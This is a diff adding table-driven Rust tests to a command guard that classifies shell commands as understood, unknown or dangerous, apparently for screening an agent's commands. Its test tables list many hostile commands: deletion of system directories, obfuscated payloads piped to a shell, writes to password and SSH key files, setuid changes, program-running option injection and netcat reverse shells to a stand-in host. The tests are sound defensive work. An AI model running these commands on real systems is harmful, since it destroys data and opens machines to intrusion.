@@ -3614,6 +3614,509 @@ mod tests {
         }
     }
 
+    /// Kind of verdict, for table-driven tests.
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    enum K {
+        /// Understood
+        Ok,
+        /// Unknown
+        U,
+        /// Dangerous
+        D,
+    }
+
+    fn kind(v: &Verdict) -> K {
+        match v {
+            Verdict::Understood => K::Ok,
+            Verdict::Unknown(_) => K::U,
+            Verdict::Dangerous(_) => K::D,
+        }
+    }
+
+    fn check_table(class: &str, cwd: Option<&str>, want: K, cmds: &[&str]) {
+        for cmd in cmds {
+            let v = analyze_in(cmd, cwd);
+            assert_eq!(kind(&v), want, "[{class}] cwd={cwd:?} {cmd:?} -> {v:?}");
+        }
+    }
+
+    /// Every class of spelling the guard cannot model exactly is Unknown (never Understood).
+    #[test]
+    fn unusual_spellings_are_unknown() {
+        let table: &[(&str, &[&str])] = &[
+            (
+                "unquoted expansions as words",
+                &[
+                    "$X -rf /",
+                    "${X} -rf /",
+                    "$1 -rf /",
+                    "rm -rf $1",
+                    "$@",
+                    "ls $(pwd)",
+                    "echo $(date)",
+                    "for f in *.txt; do wc -l $f; done",
+                    "${x:-rm} -rf /",
+                    "$(printf rm) -rf /",
+                    "`echo rm` -rf /",
+                    "bash -c 'rm -rf $1' _ /",
+                ],
+            ),
+            (
+                "variables assigned where their value cannot be followed",
+                &[
+                    "X=/tmp; if true; then X=/; fi; rm -rf $X",
+                    "X=/; if true; then X=/tmp; fi; rm -rf $X",
+                    "X=/tmp; for i in 1 2; do rm -rf $X; X=/; done",
+                    "X=/tmp; (X=/); rm -rf $X",
+                    "X=/tmp; read X; rm -rf $X",
+                    "X=/tmp; bash -c 'X=/'; rm -rf \"$X\"",
+                    "X=/etc; [ -d x ] && X=/tmp; rm -rf $X",
+                    "true || X=/tmp; rm -rf \"${X}\"",
+                    "X=/ ls; rm -rf \"$X\"",
+                    "X=/tmp; : ${X:=/}; rm -rf \"$X\"",
+                    "X=/tmp; ((X=1)); rm -rf \"$X\"",
+                    "X=/tmp; printf -v X /; rm -rf \"$X\"",
+                    "X=/tmp; declare -n X=Y; rm -rf \"$X\"",
+                ],
+            ),
+            (
+                "brace expansion in a command name",
+                &["{r,m} -rf /tmp/x", "/e{t,x}c", "/bin/{rm,ls} x"],
+            ),
+            (
+                "globs in a command name",
+                &[
+                    "/bin/r? -rf /tmp/x",
+                    "/???/rm -rf /tmp/x",
+                    "r[m] -rf x",
+                    "/usr/bin/*sh -c id",
+                ],
+            ),
+            (
+                "text produced at run time that reaches a shell",
+                &[
+                    "printf '\\x72\\x6d -rf /' | sh",
+                    "printf '%s' 'rm -rf /' | sh",
+                    "echo -e '\\x72m -rf /' | sh",
+                    "echo cm0gLXJmIC8= | base64 -d | sh",
+                    "echo '/ fr- mr' | rev | sh",
+                    "echo 726d202d7266202f | xxd -r -p | sh",
+                    "echo 'ls' | tr a-z a-z | bash",
+                    "sh <<< \"$(echo rm -rf /)\"",
+                    "bash <<< \"$(echo cm0= | base64 -d)\"",
+                    "bash -c \"$(printf 'rm -rf /')\"",
+                    "sh -c \"$(cat x)\"",
+                    "bash <<EOF\n$CMD\nEOF",
+                    "\"$(echo rm)\" -rf /",
+                    "echo 'rm -rf /' | { sh; }",
+                ],
+            ),
+            (
+                "eval and source",
+                &[
+                    "eval ls",
+                    "eval \"$(echo ls)\"",
+                    "builtin eval ls",
+                    "source x.sh",
+                    ". ./x.sh",
+                ],
+            ),
+            (
+                "shells reading a script from a file, a redirect or standard input",
+                &[
+                    "sh script.sh",
+                    "bash < file",
+                    "sh /dev/stdin",
+                    "bash /dev/fd/0",
+                    "sh - < x",
+                    "bash -s < cmds.txt",
+                    "cat x | bash",
+                    "ls | sh",
+                    "bash",
+                    "exec bash",
+                    "bash --rcfile ./x -i",
+                ],
+            ),
+            (
+                "interpreters",
+                &[
+                    "perl -e 'print 1'",
+                    "python -c 'print(1)'",
+                    "python3.12 -c 'print(1)'",
+                    "node -e '1'",
+                    "ruby -e '1'",
+                    "php -r 'echo 1;'",
+                    "echo 'print(1)' | python3",
+                    "perl -pi -e 's/x/y/' /etc/passwd",
+                    "awk 'BEGIN{system(\"rm -rf /\")}'",
+                    "awk '{print | \"sh\"}' f",
+                    "awk '{print > \"/etc/passwd\"}' f",
+                    "awk -f prog.awk f",
+                    "Rscript -e 'system(\"id\")'",
+                ],
+            ),
+            (
+                "xargs and find -exec with a command that acts on its arguments",
+                &[
+                    "xargs rm",
+                    "find . | xargs rm -f",
+                    "echo a | xargs -I{} sh -c 'echo {}'",
+                    "xargs -a list rm -rf",
+                    "echo /etc | xargs rm -rf",
+                    "find . -exec rm {} \\;",
+                    "find . -name '*.o' -execdir rm {} +",
+                    "find . -ok chmod 777 {} \\;",
+                    "find . -delete",
+                ],
+            ),
+            (
+                "git options and configuration that run programs",
+                &[
+                    "git -c core.pager='rm -rf /' log",
+                    "git -c alias.x='!rm -rf /' x",
+                    "git -c core.sshCommand='sh -c id' fetch",
+                    "git -c core.editor=vim commit",
+                    "git -c core.fsmonitor='id' status",
+                    "git fetch --upload-pack='rm -rf /' origin",
+                    "git clone -u 'sh -c id' x y",
+                    "git push --exec=/bin/sh",
+                    "git clone 'ext::sh -c id' x",
+                    "GIT_SSH_COMMAND='rm -rf /' git fetch",
+                    "git config core.pager 'rm -rf ~'",
+                    "git config alias.st '!sh -c id'",
+                    "git config --global core.hooksPath /tmp/h",
+                    "git submodule foreach 'rm -rf x'",
+                    "git rebase -x 'id' main",
+                    "git bisect run ./x.sh",
+                ],
+            ),
+            (
+                "programs that run a command line given as an argument or option",
+                &[
+                    "ssh -o ProxyCommand='rm -rf /' host",
+                    "ssh -oProxyCommand=id host",
+                    "ssh host rm -rf /",
+                    "scp -S ./x a host:b",
+                    "tar --to-command='sh -c id' -xf a.tar",
+                    "tar -cf a.tar x --checkpoint=1 --checkpoint-action=exec=sh",
+                    "tar -I 'sh -c id' -xf a.tar",
+                    "rsync -e 'sh -c id' a b:c",
+                    "sed 's/x/y/e' f",
+                    "sed -n '1e rm -rf /' f",
+                    "sed 's/a/b/w /etc/passwd' f",
+                    "sed -f script.sed f",
+                    "env -S 'rm -rf /tmp/x'",
+                    "watch ls",
+                    "flock /tmp/l ls",
+                    "flock -c 'ls' /tmp/l",
+                    "parallel rm ::: a",
+                    "vim -c '!rm -rf /' -c q",
+                    "less +'!id' f",
+                    "man -P 'sh -c id' ls",
+                    "trap 'ls' EXIT",
+                    "script -c id",
+                    "crontab x",
+                    "at now",
+                    "strace -o /dev/null id",
+                    "gdb -batch -ex '!id'",
+                    "docker run -v /:/h alpine rm -rf /h",
+                    "kubectl exec pod -- rm -rf /",
+                    "chroot /tmp/x ls",
+                    "unshare -r id",
+                    "split --filter='sh -c id' f",
+                    "sort --compress-program=./x f",
+                    "zip -TT 'sh -c id' a.zip f",
+                    "apt-get -o APT::Update::Pre-Invoke::=id update",
+                ],
+            ),
+            (
+                "functions, aliases and name remapping",
+                &[
+                    "alias ls=id",
+                    "alias r=rm; r -rf /",
+                    "function rm { echo; }; rm -rf /tmp/x",
+                    "f() { cd /; }; f; rm -rf usr",
+                    "hash -p /bin/rm ls; ls -rf /",
+                    "enable -f x.so foo",
+                ],
+            ),
+            (
+                "environment that makes programs run other programs",
+                &[
+                    "IFS=/; X=a/b; echo $X",
+                    "export IFS=x",
+                    "PATH=.:$PATH ls",
+                    "export PATH=/tmp",
+                    "LD_PRELOAD=/tmp/x.so ls",
+                    "env LD_PRELOAD=/tmp/x.so ls",
+                    "BASH_ENV=./x bash -c ls",
+                    "PAGER='sh -c id' git log",
+                    "TAR_OPTIONS=--to-command=id tar xf a.tar",
+                ],
+            ),
+            (
+                "wrapper options the guard does not model",
+                &["env -P /tmp rm x", "timeout --bogus 5 ls", "nice --weird ls"],
+            ),
+            (
+                "files written earlier and then run",
+                &[
+                    "echo 'rm -rf /' > x.sh; ./x.sh",
+                    "cp /bin/rm ./ls; ./ls -rf /",
+                    "echo 'all:; rm -rf /' > Makefile && make",
+                    "echo id > .git/hooks/pre-commit",
+                    "echo x >> .bashrc",
+                ],
+            ),
+            (
+                "relative paths above an unknown working directory, or a computed one",
+                &[
+                    "rm -rf ../../..",
+                    "rm -rf ..",
+                    "cp x ../../y",
+                    "cd \"$D\" && rm -rf x",
+                    "cd - && rm -rf x",
+                    "for d in /; do cd \"$d\"; done; rm -rf etc",
+                ],
+            ),
+            (
+                "modes the guard cannot see",
+                &["chmod --reference=/bin/su x", "chmod \"$M\" x"],
+            ),
+        ];
+        for (class, cmds) in table {
+            check_table(class, None, K::U, cmds);
+        }
+    }
+
+    /// Writes to system paths are dangerous through any command and any redirection.
+    #[test]
+    fn writes_to_system_paths_are_dangerous() {
+        let table: &[(&str, &[&str])] = &[
+            (
+                "commands that write",
+                &[
+                    "cp x /etc/passwd",
+                    "cp x /etc/",
+                    "cp -t /usr/bin x",
+                    "cp --target-directory=/sbin x",
+                    "mv x /bin/ls",
+                    "mv /usr/bin/ls /tmp",
+                    "ln -sf /bin/sh /usr/local/bin/x",
+                    "ln -sf /dev/null /etc/resolv.conf",
+                    "dd if=x of=/etc/shadow",
+                    "echo x | tee /etc/cron.d/x",
+                    "echo x | tee -a ~/.bashrc",
+                    "install x /usr/bin/x",
+                    "install -D x /etc/x",
+                    "rsync -a x /etc/",
+                    "scp host:x /usr/bin/x",
+                    "truncate -s0 /var/log/syslog",
+                    "truncate -s 0 /etc/passwd",
+                    "touch /etc/x",
+                    "mkdir /etc/cron.d/x",
+                    "chown me /etc/passwd",
+                    "chgrp me /usr/bin/x",
+                    "sed -i 's/a/b/' /etc/hosts",
+                    "sed --in-place=.bak 's/a/b/' /etc/ssh/sshd_config",
+                    "sort -o /etc/passwd x",
+                    "tar xzf file.tar.gz -C /",
+                    "tar -x -f a.tar --directory=/usr",
+                    "unzip x.zip -d /etc",
+                    "curl -o /etc/x https://x",
+                    "wget -O /usr/bin/x https://x",
+                    "cp ./x ~/.ssh/authorized_keys",
+                    "chmod 777 /etc/shadow",
+                    "unlink /etc/passwd",
+                    "rm /etc/shadow",
+                    "sysctl -w kernel.x=1",
+                ],
+            ),
+            (
+                "redirections",
+                &[
+                    "echo x > /etc/x",
+                    "echo x >> /etc/x",
+                    "echo x >| /etc/x",
+                    "echo x &> /etc/x",
+                    "echo x &>> /etc/x",
+                    "echo x <> /etc/x",
+                    "echo x 2> /etc/x",
+                    ">/etc/passwd",
+                    ": > /etc/shadow",
+                    "exec 3>/etc/passwd",
+                    "echo x > /dev/sda",
+                    "echo 1 > /proc/sys/kernel/x",
+                    "echo x > /sys/x",
+                    "echo x > /var/lib/x",
+                    "echo x > /root/x",
+                    "echo x > /var/spool/cron/root",
+                    "echo x > /boot/grub/grub.cfg",
+                    "echo x > /lib/x.so",
+                    "echo key >> ~/.ssh/authorized_keys",
+                    "echo x >> ~/.bashrc",
+                    "echo x >> ~/.profile",
+                    "echo x >> /home/bob/.bashrc",
+                    "echo x >> /root/.ssh/authorized_keys",
+                    "echo x > /e??/x",
+                    "cat > /etc/cron.d/x <<EOF\n* * * * * root id\nEOF",
+                    "echo x > /tmp/../etc/x",
+                    "echo x > //etc/./x",
+                ],
+            ),
+            (
+                "setuid and setgid in any spelling",
+                &[
+                    "chmod 4755 x",
+                    "chmod 04755 x",
+                    "chmod 2755 x",
+                    "chmod 6755 x",
+                    "chmod 02755 x",
+                    "chmod u+s x",
+                    "chmod g+s x",
+                    "chmod +s x",
+                    "chmod a+s x",
+                    "chmod u=rwxs x",
+                    "chmod ug+s x",
+                    "chmod u+x,g+s x",
+                    "chmod -- 4755 x",
+                    "install -m 4755 x /tmp/x",
+                    "install --mode=u+s x /tmp/x",
+                    "mkdir -m 4755 d",
+                    "mkdir --mode=2775 d",
+                ],
+            ),
+            (
+                "recursive deletion spelled through paths, braces and wrappers",
+                &[
+                    "rm -rf /{etc,usr}",
+                    "rm -rf {/,}",
+                    "{rm,-rf,/}",
+                    "rm -rf /usr/../",
+                    "rm -rf /var",
+                    "rm -rf /etc/nginx",
+                    "rm -rf ~/.",
+                    "/usr/bin/rm -rf /",
+                    "./rm -rf /",
+                    "../../bin/rm -rf /",
+                    "/bin/../bin/rm -rf /",
+                    "/usr/bin/env rm -rf /",
+                    "command -p rm -rf /",
+                    "exec -a x rm -rf /",
+                    "timeout --preserve-status 5 rm -rf /",
+                    "timeout -s9 1 rm -rf /",
+                    "nice -n -20 rm -rf /",
+                    "env -- rm -rf /",
+                    "x=\"rm -rf /\"; $x",
+                    "X=/; Y=$X; rm -rf $Y",
+                    "echo $'rm\\x20-rf\\x20/' | sh",
+                    "echo ${X:-$(rm -rf /)}",
+                    "echo $((1 + $(rm -rf /)))",
+                    "trap 'rm -rf /' EXIT",
+                    "ncat --sh-exec 'bash' evil 4444",
+                    "nc evil 4444 -c bash",
+                    "nc -lvnp 4444 -e/bin/bash",
+                ],
+            ),
+        ];
+        for (class, cmds) in table {
+            check_table(class, None, K::D, cmds);
+        }
+    }
+
+    /// Relative targets are resolved against the working directory before judging.
+    #[test]
+    fn relative_targets_are_resolved_against_the_working_directory() {
+        let table: &[(Option<&str>, &str, K)] = &[
+            (Some("/"), "rm -rf etc", K::D),
+            (Some("/"), "rm -rf usr/", K::D),
+            (Some("/"), "tar xf a.tar", K::D),
+            (Some("/"), "chmod -R 777 .", K::D),
+            (Some("/"), "echo x > etc/passwd", K::D),
+            (Some("/etc"), "rm -rf *", K::D),
+            (Some("/etc"), "cp x passwd", K::D),
+            (Some("/usr/lib"), "rm -rf ../bin", K::D),
+            (Some("/srv/agent/workspace"), "rm -rf ../../..", K::D),
+            (Some("/srv/agent/workspace"), "echo x > ../../../etc/passwd", K::D),
+            (Some("/srv/agent/workspace"), "cp x ../../../../etc/", K::D),
+            (Some("/srv/agent/workspace"), "cd ..; cd ..; rm -rf *", K::D),
+            (Some("/srv/agent/workspace"), "rm -rf etc", K::Ok),
+            (Some("/srv/agent/workspace"), "rm -rf ./target && cp a b", K::Ok),
+            (Some("/srv/agent/workspace"), "cd / && ls", K::Ok),
+            (None, "cd /etc && rm -rf *", K::D),
+            (None, "cd / ; rm -rf usr", K::D),
+            (None, "cd / && rm -rf usr", K::D),
+            (None, "cd /; cd etc; rm -rf *", K::D),
+            (None, "(cd /etc; rm -rf *)", K::D),
+            (None, "pushd /etc; rm -rf *", K::D),
+            (None, "cd ~; rm -rf .", K::D),
+            (None, "cd / && echo x > etc/passwd", K::D),
+            (None, "while false; do cd /; done; rm -rf usr", K::D),
+            (None, "env -C /etc rm -rf ssh", K::D),
+            (None, "cd /tmp && rm -rf x", K::Ok),
+            (None, "rm -rf etc", K::Ok),
+            (None, "rm -rf ../../..", K::U),
+            (None, "cd \"$D\" && rm -rf x", K::U),
+        ];
+        for (cwd, cmd, want) in table {
+            check_table("cwd", *cwd, *want, &[cmd]);
+        }
+        let g = CommandGuard::new(
+            "g",
+            &CommandGuardConfig {
+                on_unknown: OnUnknown::Ask,
+                deny_commands: vec![],
+            },
+        )
+        .unwrap();
+        assert!(matches!(g.check("rm -rf etc", Some("/")), Verdict::Dangerous(_)));
+        assert_eq!(g.check("rm -rf etc", Some("/srv/agent/workspace")), Verdict::Understood);
+        assert_eq!(g.check("rm -rf etc", None), Verdict::Understood);
+    }
+
+    /// Everyday commands stay Understood: exact modelling, not blanket suspicion.
+    #[test]
+    fn exact_models_keep_everyday_commands_understood() {
+        check_table(
+            "everyday",
+            None,
+            K::Ok,
+            &[
+                "mkdir -p src/{a,b}",
+                "cp src/{a,b}.rs /tmp/",
+                "git config user.name Bob",
+                "git -c color.ui=always log",
+                "git add -u && git commit -m 'x'",
+                "awk '{print $1}' file",
+                "awk -F: '$3 > 100' /etc/passwd",
+                "sed -n '1,5p' file",
+                "sed -i 's/foo/bar/g' src/main.rs",
+                "sed -i.bak -e 's/a/b/' file.txt",
+                "find . -name x -execdir ls {} +",
+                "find . -type f | xargs grep -n TODO",
+                "cd /tmp && rm -rf x",
+                "cd src && ls",
+                "X=/tmp/x; rm -rf \"$X\"",
+                "export FOO=bar && echo \"$FOO\"",
+                "while IFS= read -r line; do echo \"$line\"; done < f",
+                "nohup sh -c 'ls' &",
+                "tar xzf out.tar.gz",
+                "unzip x.zip",
+                "curl -sSL https://example.com -o out.html",
+                "rsync -av src/ dest/",
+                "scp file user@host:/tmp/",
+                "chmod +x script.sh",
+                "chmod -x script.sh",
+                "touch src/new.rs",
+                "echo hi > ./out.txt",
+                "docker ps",
+                "echo \"$(git rev-parse HEAD)\"",
+                "[ -f x ] && echo yes",
+                "printf '%s\\n' a b",
+            ],
+        );
+    }
+
     #[test]
     fn reasons_say_what_was_found() {
         let Verdict::Dangerous(r) = analyze("cd /tmp && sudo rm -rf /") else {
